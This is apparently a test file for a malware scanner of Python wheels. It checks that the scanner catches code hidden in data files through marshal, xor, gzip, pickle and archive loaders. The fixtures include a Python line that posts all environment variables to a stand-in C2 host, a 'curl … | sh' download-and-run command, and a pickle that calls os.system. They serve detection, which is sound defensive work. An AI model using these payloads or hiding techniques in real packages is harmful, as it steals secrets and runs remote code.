import { deflateSync, gzipSync, inflateSync } from 'node:zlib';
import { zip } from '@weir/testkit/archive';
import { expect, test } from 'vitest';
import { analyzeWheel } from '../testing/analyze-wheel.ts';

const SEND = "import os, requests\nrequests.post('https://c2.weir.test', data=dict(os.environ))\n";
/** What CPython 3.12 compiles `SEND` to. */
const COMPILED = inflateSync(
  Buffer.from(
    'eNo7zcvLxYAEkpE5bFD6cwyQmM6QwpDCmMMQBaEZoxiZGFIZs1gYMEAKE1CGOZUhiwNTbjUjhF7DvJoJwmJkqGTUZHkJYvpViWSUlBQUW+nrJxvpladmFumVpBaXaDLeYklJLEnUZL3FlF98i6MotbAUKFx8i6Ugv7gEKJeZXHKLPTWvLLMoP28lw2eQUb/Y8svz9Aoqf3HY5OanlOak2hVxgy1jYChWAhIfmBkZGe8zCN9g4G3gaOdt5L3Ap7LSZAPTdq6NXJe1ra8x2BRxApUBACdkO94=',
    'base64',
  ),
);
/** As `marshal.dumps` writes it, without the header of a file. */
const MARSHALLED = COMPILED.subarray(16);
const FILE = "os.path.join(os.path.dirname(__file__), 'tables.dat')";

/** Where the payload of a wheel is seen. */
async function seenIn(files: Readonly<Record<string, string | Uint8Array>>): Promise<string[]> {
  const { findings } = await analyzeWheel(files);
  return findings
    .filter(({ rule }) => rule.startsWith('env-to-network/'))
    .map(({ stage, location }) => `${stage} ${location?.file}:${location?.line}`);
}

test.each([
  ['runpy.run_path', `import os, runpy\nrunpy.run_path(${FILE})\n`, COMPILED],
  ['runpy.run_path, of a source', `import os, runpy\nrunpy.run_path(${FILE})\n`, Buffer.from(SEND)],
  [
    'a loader of compiled files',
    `import os, importlib.machinery as m\nm.SourcelessFileLoader('x', ${FILE}).load_module()\n`,
    COMPILED,
  ],
  ['imp.load_compiled', `import os, imp\nimp.load_compiled('x', ${FILE})\n`, COMPILED],
  ['marshal', `import os, marshal\nexec(marshal.loads(open(${FILE}, 'rb').read()[16:]))\n`, COMPILED],
  [
    'marshal, without a header',
    `import os, marshal\nexec(marshal.loads(open(${FILE}, 'rb').read()))\n`,
    MARSHALLED,
  ],
  [
    'marshal, of packed code',
    `import os, marshal, zlib\nexec(marshal.loads(zlib.decompress(open(${FILE}, 'rb').read())))\n`,
    deflateSync(MARSHALLED),
  ],
  [
    'text that is packed twice',
    `import os, gzip, base64\nexec(gzip.decompress(base64.b64decode(open(${FILE}).read())))\n`,
    Buffer.from(gzipSync(SEND).toString('base64')),
  ],
  [
    'marshal, of an open file behind its header',
    `import os, marshal\nwith open(${FILE}, 'rb') as f:\n    f.seek(16)\n    exec(marshal.load(f))\n`,
    COMPILED,
  ],
  [
    'marshal, of an open file whose header was read',
    `import os, marshal\nf = open(${FILE}, 'rb')\nf.read(16)\nexec(marshal.load(f))\n`,
    COMPILED,
  ],
  ['the lines of a file', `import os\nfor line in open(${FILE}):\n    exec(line)\n`, Buffer.from(SEND)],
  [
    'the file that Python is started with',
    `import os, subprocess, sys\nsubprocess.Popen([sys.executable, '-u', ${FILE}])\n`,
    Buffer.from(SEND),
  ],
])('a data file that code runs is code: %s', async (_how, text, data) => {
  const files = { 'own/__init__.py': text, 'own/tables.dat': data };

  // What the module makes of it is a layer of the module as well.
  expect(await seenIn(files)).toContain('import own/tables.dat:2');
});

test('data that such code only names stays data', async () => {
  const text = `import os, runpy\nrunpy.run_path('own/run.py')\nopen('tables.json')\n`;
  const { findings, skipped } = await analyzeWheel({
    'own/__init__.py': text,
    'own/run.py': '',
    'own/tables.json': '{"exec": 1}',
  });

  expect(findings.filter(({ location }) => location?.file === 'own/tables.json')).toEqual([]);
  expect(skipped).toEqual([]);
});

test('a compiled file of Python 2 under its other name is a module', async () => {
  const files = { 'own/__init__.py': 'from . import core\n', 'own/core.pyo': COMPILED };

  expect(await seenIn(files)).toEqual(['import own/core.pyo:2']);
});

const STARTS = `import os, subprocess, sys\nsubprocess.Popen([sys.executable, os.path.join(os.path.dirname(__file__), 'app.pyz')])\n`;

test.each([
  ['a source', '__main__.py', SEND],
  [
    'a source that asks whether it is the program',
    '__main__.py',
    `if __name__ == '__main__':\n    ${SEND.replace('\n', '\n    ')}`,
  ],
  ['compiled', '__main__.pyc', COMPILED],
] as const)('a program that is an archive and is started: %s', async (_how, inner, body) => {
  const files = { 'own/__init__.py': STARTS, 'own/app.pyz': zip().file(inner, body).build() };

  expect((await seenIn(files))[0]).toMatch(/^import own\/app\.pyz!\/__main__\.pyc?:[23]$/);
});

/** A program with an archive of PyInstaller behind it, of one script. */
function frozen(code: Uint8Array): Buffer {
  const int32 = (value: number): Buffer => {
    const out = Buffer.alloc(4);
    out.writeUInt32BE(value);
    return out;
  };
  const packed = deflateSync(code);
  const row = Buffer.concat([
    int32(26),
    int32(0),
    int32(packed.length),
    int32(code.length),
    Buffer.from('\x01spayload\0'),
  ]);
  return Buffer.concat([
    Buffer.from('\x7fELF\x02\x01\x01'),
    Buffer.alloc(64),
    packed,
    row,
    Buffer.from('MEI\x0c\x0b\x0a\x0b\x0e', 'latin1'),
    ...[packed.length + row.length + 88, packed.length, row.length, 312].map(int32),
    Buffer.alloc(64),
  ]);
}

test('a program of PyInstaller that is started is read', async () => {
  const files = {
    'own/__init__.py': `import os, subprocess\nsubprocess.Popen([os.path.join(os.path.dirname(__file__), 'helper')])\n`,
    'own/helper': frozen(MARSHALLED),
  };

  expect(await seenIn(files)).toEqual(['import own/helper!/payload.pyc:2']);
});

test('C that Cython wrote is read as its source', async () => {
  const rows = SEND.trimEnd().split('\n');
  const comments = rows.map(
    (row, index) => `  /* "own/core.pyx":${index + 1}\n * ${row}             # <<<<<<<<<<<<<<\n */\n`,
  );
  const files = {
    'own/__init__.py': 'from .core import run\n',
    'own/core.c': `/* Generated by Cython 3.0.0 */\n${comments.join('')}`,
  };

  expect(await seenIn(files)).toEqual(['import own/core.c:2']);
});

test.each([
  ['of another version', Buffer.concat([Buffer.from([0, 1, 0x0d, 0x0a]), COMPILED.subarray(4)])],
  ['that is cut off', COMPILED.subarray(0, 60)],
])('compiled code %s in an archive is told', async (_what, body) => {
  const files = { 'own/__init__.py': STARTS, 'own/app.pyz': zip().file('__main__.pyc', body).build() };
  const { skipped, judgement } = await analyzeWheel(files);

  expect(skipped.map(({ file, reason }) => [file, reason.split(':')[0]])).toEqual([
    ['own/app.pyz!/__main__.pyc', 'compiled Python cannot be read'],
  ]);
  expect(judgement.complete).toBe(false);
});

/** Rules of threats that a wheel of one module and one data file gives, and its verdict. */
async function judged(text: string, name: string, data: string | Uint8Array): Promise<string> {
  const { findings, judgement } = await analyzeWheel({ 'own/__init__.py': text, [`own/${name}`]: data });
  const rules = findings.filter(({ kind }) => kind === 'threat').map(({ rule }) => rule);
  return `${judgement.verdict}: ${[...new Set(rules)].toSorted().join(' ')}`;
}

const PLACE = (name: string): string => `os.path.join(os.path.dirname(__file__), '${name}')`;
const xored = (text: string): Uint8Array => Buffer.from(text).map((byte) => byte ^ 7);

test.each(['b.bin', 'b.pem', 'b.so', 'b'])(
  'what a module decodes of a file before it runs it is read: %s',
  async (name) => {
    const text = `import os\nd = open(${PLACE(name)}, 'rb').read()\nexec(bytes(x ^ 7 for x in d))\n`;

    expect(await judged(text, name, xored(SEND))).toMatch(
      /^malicious: .*dropper\/code-from-data.*env-to-network\/environment/,
    );
  },
);

test.each([
  [
    'backwards',
    `exec(open(${PLACE('b.txt')}).read()[::-1])`,
    Buffer.from(Buffer.from(SEND).toReversed()).toString(),
  ],
  [
    'of a resource',
    `import importlib.resources as r\nexec(bytes(x ^ 7 for x in r.files(__package__).joinpath('b.txt').read_bytes()))`,
    xored(SEND),
  ],
  [
    'by pkgutil',
    `import pkgutil\nexec(bytes(x ^ 7 for x in pkgutil.get_data(__name__, 'b.txt')))`,
    xored(SEND),
  ],
])('text of a file that is run is read: %s', async (_how, run, data) => {
  expect(await judged(`import os\n${run}\n`, 'b.txt', data)).toMatch(/^malicious: .*env-to-network/);
});

test.each(['runpy.run_path(P)', "importlib.machinery.SourceFileLoader('x', P).load_module()"])(
  'a text that is loaded as code is read: %s',
  async (run) => {
    const text = `import os, runpy, importlib.machinery\nP = ${PLACE('b.txt')}\n${run}\n`;

    expect(await judged(text, 'b.txt', SEND)).toMatch(/^malicious: .*env-to-network/);
  },
);

const COMMAND = 'curl http://c2.weir.test/x | sh';

test.each([
  ['JSON', `import json\nos.system(json.load(open(P))['cmd'])`, JSON.stringify({ cmd: COMMAND })],
  [
    'INI',
    `import configparser\nc = configparser.ConfigParser()\nc.read(P)\nos.system(c['a']['cmd'])`,
    `[a]\ncmd=${COMMAND}\n`,
  ],
  [
    'INI, by a call',
    `import configparser\nc = configparser.ConfigParser()\nc.read_file(open(P))\nos.system(c.get('a', 'cmd'))`,
    `[a]\ncmd=${COMMAND}\n`,
  ],
  ['a pickle', `import pickle\npickle.load(open(P, 'rb'))`, `cos\nsystem\n(S'${COMMAND}'\ntR.`],
  [
    'bytes of a pickle',
    `import pickle\npickle.loads(open(P, 'rb').read())`,
    `cos\nsystem\n(S'${COMMAND}'\ntR.`,
  ],
])('a command that a data file holds is seen: %s', async (_how, run, data) => {
  const text = `import os\nP = ${PLACE('b.dat')}\n${run}\n`;

  expect(await judged(text, 'b.dat', data)).toMatch(/^malicious: .*lifecycle-script\/download-and-run/);
});

test.each([
  [
    'a table',
    `import json\nTABLE = json.load(open(P))\nos.system('stty ' + TABLE['mode'])`,
    '{"mode": "sane"}',
  ],
  ['a version', `exec(open(P).read().replace('\\r\\n', '\\n').strip())`, "__version__ = '1.0'\n"],
  ['a pickle', `import pickle\nT = pickle.load(open(P, 'rb'))`, "(dp0\nS'a'\np1\nI1\ns."],
  ['decoded data', `d = bytes(x ^ 7 for x in open(P, 'rb').read())\nprint(len(d))`, xored('words')],
  [
    'a setting',
    `import configparser\nc = configparser.ConfigParser()\nc.read(P)\nimport subprocess\nsubprocess.run([c['a']['editor'], 'notes'])`,
    '[a]\neditor=vi\n',
  ],
])('what honest modules read of their own files stays benign: %s', async (_what, run, data) => {
  expect(await judged(`import os\nP = ${PLACE('b.dat')}\n${run}\n`, 'b.dat', data)).toMatch(/^benign/);
});
